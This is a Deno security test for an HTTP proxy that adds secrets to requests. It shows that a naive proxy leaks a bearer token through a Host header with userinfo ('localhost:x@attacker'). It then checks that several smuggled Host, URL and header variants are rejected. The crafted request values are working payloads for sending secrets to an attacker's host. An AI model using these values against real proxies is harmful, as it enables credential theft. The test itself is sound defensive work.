/**
 * A `Host` that one reader takes for the allowed host and another for the attacker's: `allowed:x@thief`. A proxy that checks
 * the text before the first colon and pastes the whole into a URL sends the secret to the thief.
 */

import assert from "node:assert/strict";
import { parse, recordingServer, send, withProxy } from "../proxy/harness.ts";
import { field, naiveProxy } from "./naive_proxy.ts";

const SECRET = "sk-live-the-real-value-0042";

Deno.test("a Host with userinfo in front does not send the secret to what stands behind it", () =>
  withProxy(async ({ keyring, port }) => {
    const thief = recordingServer();
    const { token } = keyring.add({ hosts: "http://localhost:80", value: SECRET });
    const naive = naiveProxy({
      target: (request) => {
        const host = field(request, "host");
        if (host.split(":")[0] !== "localhost") return null;
        return { port: Number(new URL(`http://${host}/`).port) };
      },
      rewrite: (request) => request.replace(token, SECRET),
    });
    try {
      const aim = `127.0.0.1:${thief.port}`;
      const lure = (host: string, target = "/") =>
        `GET ${target} HTTP/1.1\r\nHost: ${host}\r\nAuthorization: Bearer ${token}\r\nConnection: close\r\n\r\n`;
      await send(naive.port, lure(`localhost:x@${aim}`));
      assert.ok(
        thief.received.join().includes(SECRET),
        "the attack does not even work against a naive proxy",
      );
      thief.received.length = 0;

      for (
        const host of [`localhost:x@${aim}`, `localhost@${aim}`, `localhost#@${aim}`, `localhost\\@${aim}`]
      ) {
        const ways = [
          lure(host),
          lure(host, `http://${host}/`),
          lure("localhost", `http://${host}/`),
          lure(host, "http://localhost/"),
          lure(`127.0.0.1:${port}`, `/to/http/${host}/`),
          lure(`127.0.0.1:${port}`).replace("\r\n", `\r\nX-Target-Url: http://${host}/\r\n`),
        ];
        for (const way of ways) {
          const { status } = parse(await send(port, way));
          assert.ok([400, 421].includes(status), `${status} for ${way}`);
        }
      }
      assert.deepEqual(thief.received, []);
      assert.equal(keyring.handedOut.length, 0, "the secret was not even opened");
    } finally {
      await naive.close();
      await thief.close();
    }
  }));
